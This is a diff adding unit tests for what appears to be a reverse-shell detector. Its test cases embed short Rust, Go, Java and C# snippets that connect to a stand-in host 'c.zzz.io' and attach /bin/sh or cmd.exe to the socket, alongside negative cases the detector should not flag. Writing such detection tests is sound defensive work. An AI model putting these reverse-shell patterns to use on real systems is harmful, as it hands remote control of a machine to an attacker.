@@ -112,3 +112,25 @@ describe("silent:", () => {
     expect(seenIn(text)).toEqual([]);
   });
 });
+
+const seenInScript = (text: string) =>
+  reverseShell.find(markText(text, "script")).map(({ does }) => does);
+
+describe("a shell on a connection in a compiled language", () => {
+  test.each([
+    'let s = TcpStream::connect("c.zzz.io:1").unwrap();\nlet f = s.as_raw_fd();\nCommand::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(f) });',
+    'c, _ := net.Dial("tcp", "c.zzz.io:1")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c',
+    'Socket s = new Socket("c.zzz.io", 1);\nProcess p = new ProcessBuilder("/bin/sh").start();',
+    'var c = new TcpClient("c.zzz.io", 1);\np.StartInfo.FileName = "cmd.exe";\np.StartInfo.RedirectStandardInput = true;',
+  ])("%s", (text) => expect(seenInScript(text)).toEqual(["opens a shell to a network host"]));
+
+  test.each([
+    'TcpStream::connect("c.zzz.io:1").is_ok();\nCommand::new("sh").status();',
+    'c, _ := net.Dial("tcp", "c.zzz.io:1")\nexec.Command("/bin/sh").Run()',
+  ])("is not one that only connects: %s", (text) => expect(seenInScript(text)).toEqual([]));
+
+  test("in a sentence it is only named", () => {
+    const text = 'Use `TcpStream::connect` and `from_raw_fd` with "sh".';
+    expect(reverseShell.find(markText(text, "markdown"))).toEqual([]);
+  });
+});
